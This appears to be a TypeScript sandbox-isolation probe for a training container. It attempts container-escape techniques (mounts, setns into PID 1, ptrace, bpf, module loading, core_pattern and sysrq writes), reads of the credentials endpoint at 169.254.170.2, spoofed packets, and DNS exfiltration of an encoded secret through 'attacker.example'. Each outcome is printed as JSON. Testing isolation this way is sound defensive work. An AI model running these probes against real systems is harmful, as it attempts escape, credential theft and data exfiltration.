import { Resolver } from 'node:dns/promises';
import * as fs from 'node:fs';
import { connect } from 'node:net';
import { call, descriptorOf, inChild, sendAs } from './libc.ts';

/** What code that means harm tries, from inside. Prints one line: what became of each. */

interface Targets {
  readonly connections: readonly string[];
  readonly forgedSource: string;
  readonly forgedDestination: string;
  readonly otherCredentials: string;
  readonly keys: readonly number[];
}

const targets = JSON.parse(fs.readFileSync('/opt/ml/input/data/train/targets.json', 'utf8')) as Targets;
const codeOf = (error: unknown): string => (error as NodeJS.ErrnoException).code ?? String(error);

function attempt(work: () => unknown): string {
  try {
    return `OK ${String(work())}`;
  } catch (error) {
    return codeOf(error);
  }
}

async function reaches(target: string): Promise<string> {
  const [host = '', port] = target.split(':');
  const { promise, resolve } = Promise.withResolvers<string>();
  const connection = connect({ host, port: Number(port) });
  connection.setTimeout(3_000, () => connection.destroy(new Error('no answer')));
  connection.on('connect', () => resolve('REACHED'));
  connection.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
  return await promise.finally(() => connection.destroy());
}

async function answerOf(name: string, server?: string): Promise<string> {
  const resolver = new Resolver({ timeout: 1_500, tries: 1 });
  if (server !== undefined) resolver.setServers([server]);
  return await resolver.resolve4(name).then(
    (found) => `OK ${found.join()}`,
    (error: unknown) => codeOf(error),
  );
}

const [newMount, newUser, newNet, newPid] = [0x0002_0000, 0x1000_0000, 0x4000_0000, 0x2000_0000];
const [readOnly, remount, bind] = [1, 32, 4_096];
const here = -100;
const socket = descriptorOf(call('socket', 2, 2, 0));
/** struct ifreq of eth0, with zeroes for its value. */
const eth0 = Buffer.concat([Buffer.from('eth0'), Buffer.alloc(36)]);
const write = (path: string, text: string): string => attempt(() => fs.writeFileSync(path, text));
const enter = (path: string): string => {
  const opened = attempt(() => fs.openSync(path, 'r'));
  return opened.startsWith('OK') ? call('setns', descriptorOf(opened), 0) : opened;
};

const network = {
  'a raw socket': call('socket', 2, 3, 1),
  'a packet socket': call('socket', 17, 3, 0x0300),
  'a socket of nftables': call('socket', 16, 3, 12).startsWith('OK') ? write('/proc/sys/net/ipv4/ip_forward', '1') : 'EPERM',
  'another MAC': call('ioctl', socket, 0x8924, eth0),
  'another address': call('ioctl', socket, 0x8916, eth0),
  'an entry for ARP': call('ioctl', socket, 0x8955, Buffer.alloc(68)),
  'a promiscuous link': call('ioctl', socket, 0x8914, eth0),
};

const kernel = {
  'mount a tmpfs': call('mount', 'none', '/tmp', 'tmpfs', 0, null),
  'bind the root': call('mount', '/', '/tmp', null, bind, null),
  'write where only reading is allowed': call('mount', null, '/opt/ml/input/config', null, remount | bind, null),
  'read only what is written': call('mount', null, '/opt/ml/model', null, remount | bind | readOnly, null),
  umount: call('umount2', '/etc/hosts', 2),
  pivot_root: call('pivot_root', '/tmp', '/tmp'),
  chroot: call('chroot', '/tmp'),
  fsopen: call('fsopen', 'tmpfs', 0),
  'a clone of the tree': call('open_tree', here, '/', 1),
  'a file by its handle': call('open_by_handle_at', here, Buffer.alloc(16), 0),
  sethostname: call('sethostname', 'other', 5),
  'a new mount namespace': call('unshare', newMount),
  'a new network namespace': call('unshare', newNet),
  'a new process namespace': call('unshare', newPid),
  'the namespaces of a process outside': enter('/proc/1/root/proc/1/ns/mnt'),
  'its own namespace again': enter('/proc/self/ns/net'),
  'trace a process': call('ptrace', 16, 1, 0, 0),
  bpf: call('bpf', 5, Buffer.alloc(128), 128),
  perf: call('perf_event_open', Buffer.concat([Buffer.from([1, 0, 0, 0, 128, 0, 0, 0]), Buffer.alloc(120)]), -1, 0, -1, 0),
  userfaultfd: call('userfaultfd', 0),
  io_uring: call('io_uring_setup', 8, Buffer.alloc(120)),
  'add a key': call('add_key', 'user', 'name', Buffer.from('value'), 5, -3),
  ...Object.fromEntries(targets.keys.map((key) => [`read key ${key} of the machine`, call('keyctl', 11, key, Buffer.alloc(64), 64)])),
  'load a module': call('init_module', Buffer.alloc(8), 8, ''),
  kexec: call('kexec_load', 0, 0, 0, 0),
  reboot: call('reboot', 0, 0, 0, 0),
  'a character device': call('mknodat', here, '/tmp/memory', 0o020666, 0x0101),
  'a block device': call('mknodat', here, '/opt/ml/model/disk', 0o060666, 0x0800),
};

const files = {
  'a sysctl of the kernel': write('/proc/sys/kernel/core_pattern', '|/tmp/x'),
  'the trigger of system requests': write('/proc/sysrq-trigger', 'h'),
  'the memory of the kernel': attempt(() => fs.openSync('/proc/kcore', 'r') && fs.readFileSync('/proc/kcore').length),
  'a setting of the kernel': write('/sys/kernel/mm/ksm/run', '1'),
  'a setting of a device': write('/sys/class/net/eth0/mtu', '9000'),
  'another cgroup': write('/sys/fs/cgroup/cgroup.procs', '1'),
  'a better place among those to be killed': write('/proc/self/oom_score_adj', '-1000'),
  'the names of hosts': write('/etc/hosts', '10.0.0.1 algo-2'),
  'the name server': write('/etc/resolv.conf', 'nameserver 8.8.8.8'),
  'the configuration': write('/opt/ml/input/config/resourceconfig.json', '{}'),
  'a hard link to the names': attempt(() => fs.linkSync('/etc/hosts', '/opt/ml/model/hosts')),
  'a user beyond its range': attempt(() => fs.chownSync('/opt/ml/model', 70_000, 0)),
  'the containers of the machine': attempt(() => fs.readdirSync('/run/containers').length),
  "the agent's socket": attempt(() => fs.readdirSync('/run/cloister').length),
};

const credentials = await fetch(`http://169.254.170.2${targets.otherCredentials}`).then(
  (answer) => `status ${answer.status}`,
  (error: unknown) => codeOf(error),
);
const reached = Object.fromEntries(await Promise.all(targets.connections.map(async (target) => [target, await reaches(target)] as const)));
const names = {
  'the resolver, for data that leaves in a name': await answerOf('c2VjcmV0.attacker.example'),
  'a name server outside': await answerOf('c2VjcmV0.attacker.example', '203.0.113.53'),
  'a name server of the next hop': await answerOf('c2VjcmV0.attacker.example', '10.0.0.1'),
};
const forged = sendAs(targets.forgedSource, targets.forgedDestination, 7_999);
const user = {
  'a user namespace': inChild(newUser, '/tmp/user', () => call('mount', 'none', '/tmp', 'tmpfs', 0, null)),
  'a user namespace with mounts of its own': inChild(newUser | newMount, '/tmp/mounts', () => call('mount', 'none', '/tmp', 'tmpfs', 0, null)),
  'a user namespace with a network of its own': inChild(newUser | newNet, '/tmp/network', () => call('socket', 17, 3, 0x0300)),
};
process.stdout.write(`${JSON.stringify({ network, kernel, files, user, credentials, reached, names, forged })}\n`);
setInterval(() => undefined, 1_000);
process.on('SIGTERM', () => process.exit(0));
